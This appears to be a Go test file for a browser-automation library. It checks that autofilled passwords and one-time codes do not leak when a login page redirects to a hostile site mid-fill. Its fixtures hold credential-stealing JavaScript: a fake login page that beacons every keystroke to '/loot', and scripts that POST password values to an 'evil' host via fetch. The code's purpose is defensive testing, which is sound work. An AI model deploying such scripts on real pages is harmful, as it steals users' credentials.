package page_test

import (
	"context"
	"crypto/rand"
	"fmt"
	mathrand "math/rand/v2"
	"net/url"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl"
	"github.com/bctrl-go/bctrl/internal/browser"
	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
	"github.com/bctrl-go/bctrl/internal/browser/page"
	"github.com/bctrl-go/bctrl/internal/sample"
)

// waysToLeave are scripts that take a login's document to the address away, or have its
// form send there, and what they are called.
var waysToLeave = [][2]string{
	{"by location", `location = away`},
	{"in its place", `location.replace(away)`},
	{"with another address before", `history.replaceState(0, '', '/login?' + Math.random()); location = away`},
	{"by a refresh", `const m = document.createElement('meta'); m.httpEquiv = 'refresh';
		m.content = '0;url=' + away; document.head.append(m)`},
	{"by a link", `const a = document.createElement('a'); a.href = away; document.body.append(a); a.click()`},
	{"by another form", `const o = document.createElement('form'); o.method = 'post'; o.action = away;
		document.body.append(o); o.submit()`},
	{"by the login's form", `f.action = away; HTMLFormElement.prototype.submit.call(f)`},
	{"by its form's query", `f.method = 'get'; f.action = away; HTMLFormElement.prototype.submit.call(f)`},
	{"by a form that gets its field", `const o = document.createElement('form'); o.method = 'post'; o.action = away;
		document.body.append(o); o.append(p); o.submit()`},
	{"by a document that is written", `const to = away; document.open(); document.write('<input type=password autofocus>' +
		'<script>const to = ' + JSON.stringify(to) + ', i = document.querySelector("input");' +
		'i.oninput = () => fetch(to, {method: "POST", mode: "no-cors", body: i.value}); location = to;<' + '/script>');
		document.close()`},
	{"by losing its frame", `frameElement ? parent.location = away : location = away`},
}

// thiefsPage looks like the login's page, and sends away whatever its fields come to hold.
const thiefsPage = `<form method=post action=/loot><input name=u aria-label=User>
<input type=password name=p id=p aria-label=Password autofocus></form><script>
const take = () => document.querySelectorAll('input').forEach(i => i.value && navigator.sendBeacon('/loot', i.value));
for (const event of ['input', 'beforeinput', 'change', 'keyup', 'pagehide', 'paste'])
	addEventListener(event, take, true);
setInterval(take, 5);</script>`

// racer leaves pages in one browser while they are filled.
type racer struct {
	*testing.T
	page       *page.Set
	site, evil *browsertest.Site
	random     *mathrand.Rand
	// value and code are what is filled: a password, and a one-time code that is long enough
	// to be found among other digits.
	value, code string
	// pace is after how many milliseconds a document is left for about half of the fills
	// to be done by then: of a page of its own, and of each frame after the one before.
	pace struct{ page, frame float64 }

	filled, refused int
	stopped         atomic.Int64
	// visits are those of the site that its pages are left for.
	visits int
}

// race is one fill, and when and in which way its document is left.
type race struct {
	how, script string
	pace        *float64
	delay       float64 // milliseconds from when the document is there
	code        bool    // not a password
	direct      bool
}

// races are those of one page: its own, or those of frames in it.
func (r *racer) races(frames int) []race {
	out := make([]race, max(1, frames))
	for i := range out {
		way := waysToLeave[r.random.IntN(len(waysToLeave))]
		out[i] = race{how: way[0], script: way[1], pace: &r.pace.page}
		out[i].direct, out[i].code = r.random.IntN(2) == 0, r.random.IntN(4) == 0
		if frames > 0 {
			out[i].pace = &r.pace.frame
		}
		out[i].delay = *out[i].pace * (float64(i) + .5 + r.random.Float64())
	}
	return out
}

// pagesOf are the pages of some races. Each sends what its field holds to the thief as soon
// as it sees it.
func (r *racer) pagesOf(races []race) map[string]string {
	pages, whole := map[string]string{}, ""
	for i, c := range races {
		path := "/" + strconv.Itoa(i)
		pages[path] = fmt.Sprintf(`<form id=f method=post action=/login><input name=u aria-label=User>
			<input type=password id=p name=p aria-label=Password></form><script>
			const away = %q;
			p.oninput = () => fetch(away, {method: 'POST', mode: 'no-cors', body: p.value});
			setTimeout(() => { %s }, %f);</script>`, r.evil.URL+"/", c.script, c.delay)
		whole += `<iframe width=300 height=60 src=` + path + `></iframe>`
	}
	pages["/"] = whole
	if len(races) == 1 {
		pages["/"] = pages["/0"]
	}
	return pages
}

// run opens the pages of some races and fills each.
func (r *racer) run(ctx context.Context, races []race) {
	r.site.SetPages(r.pagesOf(races))
	err := r.page.Goto(ctx, r.site.URL+"/", bctrl.WaitDOMContentLoaded)
	var obs *browser.Observation
	if err == nil {
		obs, err = r.page.Observe(ctx)
	}
	if err != nil { // it was left while it was opened or read, or the one before it was
		r.see("an error", err.Error())
		*races[0].pace *= 1.1
		return
	}
	var fields []browser.Ref
	for _, e := range obs.Elements {
		if e.Name == "Password" {
			fields = append(fields, e.Ref)
		}
	}
	for i, ref := range fields[:min(len(fields), len(races))] {
		r.fill(ctx, ref, races[i])
	}
	if obs, err = r.page.Observe(ctx); err == nil {
		r.see("a view", obs.Outline+fmt.Sprint(obs.Elements)+obs.URL+obs.Title)
	}
}

func (r *racer) fill(ctx context.Context, ref browser.Ref, c race) {
	fill := browsertest.Login("password", r.value, r.site.URL)
	if c.code {
		fill = browsertest.Login("totp", r.code, r.site.URL)
	}
	fill.Direct = c.direct
	fill.Report = func(_ context.Context, e *bctrl.Error) {
		r.see("a report", e.Error())
		r.stopped.Add(1)
	}
	err := r.page.Fill(ctx, ref, fill)
	if err == nil {
		r.filled++
		*c.pace *= .92
		return
	}
	r.see("an error", err.Error())
	r.refused++
	*c.pace *= 1.1
	require.ErrorAs(r, err, new(*bctrl.Error), "%s: a fill that comes too late is refused by name", c.how)
}

// see requires that a text holds neither value.
func (r *racer) see(what, text string) {
	if strings.Contains(strings.ToLower(text), strings.ToLower(r.value[1:])) || strings.Contains(text, r.code) {
		r.Errorf("the value is in %s", what)
	}
}

// TestNothingLeaksWhereAPageIsLeftBetweenCheckAndFill has documents leave for a hostile site
// at random moments of a fill: whole pages, and frames in a page that stays. Some fills are
// of one-time codes, and half of them put the value itself into the page. What arrives at
// that site, and what the login's own site gets without having been logged in to, holds
// nothing of the values.
// BCTRL_RACES says how often, BCTRL_RACES_SEED which.
func TestNothingLeaksWhereAPageIsLeftBetweenCheckAndFill(t *testing.T) {
	t.Parallel()
	count := numberFrom(t, "BCTRL_RACES", sample.Number(8, 1000))
	seed := numberFrom(t, "BCTRL_RACES_SEED", int(time.Now().UnixNano()))
	t.Logf("%d races, seed %d", count, seed)
	const browsers, frames = 4, 8
	var each sync.WaitGroup
	racers := make([]*racer, browsers)
	for i := range browsers {
		each.Go(func() {
			t.Run(strconv.Itoa(i), func(t *testing.T) {
				_, p, _ := openPage(t)
				r := &racer{
					T:      t,
					page:   p,
					random: mathrand.New(mathrand.NewPCG(uint64(seed), uint64(i))),
					value:  "Canary" + rand.Text(),
					code:   strconv.FormatInt(1e9+mathrand.Int64N(9e9), 10),
					site:   browsertest.NewSite(t, nil),
					evil:   browsertest.NewSite(t, map[string]string{"/": thiefsPage, "/end": "the end"}),
				}
				racers[i] = r
				r.pace.page, r.pace.frame = 120, 120 // mostly too late at first, which is learnt from soon
				for r.filled+r.refused < count/browsers {
					r.run(t.Context(), r.races(frames*r.random.IntN(2)))
				}
				r.requireNothingLeaked(t.Context())
			})
		})
	}
	each.Wait()
	if t.Failed() {
		return
	}
	var filled, refused, visits int
	var stopped int64
	for _, r := range racers {
		filled, refused, visits = filled+r.filled, refused+r.refused, visits+r.visits
		stopped += r.stopped.Load()
	}
	for why, n := range map[string]int{"filled": filled, "refused": refused, "arrived": visits} {
		require.Greater(t, n, (filled+refused)/20, "%s: the moments are those of a race", why)
	}
	require.Positive(t, stopped)
}

// requireNothingLeaked looks at what has arrived once the last page was left.
func (r *racer) requireNothingLeaked(ctx context.Context) {
	require.Eventually(r, func() bool { return r.page.Goto(ctx, r.evil.URL+"/end", "") == nil },
		time.Minute, time.Millisecond)
	browsertest.RequireUnseen(r.T, r.value, r.evil.All(), r.site.All())
	browsertest.RequireUnseen(r.T, r.code, r.evil.All(), r.site.All())
	require.Empty(r, r.evil.RequestsTo("/loot"), "nor what stood for it")
	for _, got := range r.evil.RequestsTo("/") {
		sent, err := url.ParseQuery(got.Query + "&" + got.Body)
		require.NoError(r, err)
		require.Empty(r, strings.Join(sent["p"], ""), "nor what stood for it")
	}
	r.visits = len(r.evil.RequestsTo("/"))
	r.Logf("%d filled, %d refused, %d requests stopped, %d arrived", r.filled, r.refused, r.stopped.Load(), r.visits)
}

// numberFrom reads a number of the environment, for whoever wants another one.
func numberFrom(t *testing.T, variable string, otherwise int) int {
	t.Helper()
	text := os.Getenv(variable)
	if text == "" {
		return otherwise
	}
	n, err := strconv.Atoi(text)
	require.NoError(t, err, variable)
	return n
}
